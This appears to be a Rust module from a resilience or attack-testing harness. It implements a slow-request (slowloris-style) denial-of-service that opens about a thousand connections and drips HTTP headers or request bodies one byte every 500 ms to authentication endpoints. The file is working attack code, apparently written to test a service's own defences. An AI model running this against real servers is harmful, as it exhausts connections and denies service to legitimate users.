//! Requests that arrive one byte at a time.

use std::io;
use std::time::Duration;

use tokio::time::sleep;

use super::super::attack_context::{AttackConnection, Context};

const CONNECTIONS: u64 = 1_000;
const CONNECTIONS_OF_OPERATORS: u64 = 200;
const OPENED_PER_SECOND: u64 = 500;
/// Time between two bytes on a connection.
const BETWEEN: Duration = Duration::from_millis(500);

pub(in super::super) fn rate() -> String {
    format!("{CONNECTIONS} connections, a byte every {} ms on each", BETWEEN.as_millis())
}

pub(in super::super) fn heads_rate() -> String {
    format!("{}; {CONNECTIONS_OF_OPERATORS} at the operators'", rate())
}

pub(in super::super) async fn heads(context: Context) {
    let count = context.either(CONNECTIONS, CONNECTIONS_OF_OPERATORS);
    context.lanes(count, OPENED_PER_SECOND, one_head).await;
}

async fn one_head(context: Context, _: u64) -> io::Result<()> {
    let mut peer = context.dial().await?;
    drip(&mut peer, b"GET /v1/client/user-authenticators HTTP/1.1\r\nhost: x\r\nx-a: ").await?;
    loop {
        drip(&mut peer, b"a").await?;
    }
}

pub(in super::super) async fn bodies(context: Context) {
    context.lanes(CONNECTIONS, OPENED_PER_SECOND, one_body).await;
}

async fn one_body(context: Context, _: u64) -> io::Result<()> {
    let mut peer = context.dial().await?;
    let head = "POST /v1/client/challenge/push HTTP/1.1\r\nhost: x\r\nauthorization: Bearer x\r\n\
                content-type: application/json\r\ncontent-length: 16000\r\n\r\n";
    peer.send(head.as_bytes()).await?;
    loop {
        drip(&mut peer, b" ").await?;
    }
}

async fn drip(peer: &mut AttackConnection, bytes: &[u8]) -> io::Result<()> {
    for byte in bytes {
        peer.send(&[*byte]).await?;
        sleep(BETWEEN).await;
    }
    Ok(())
}
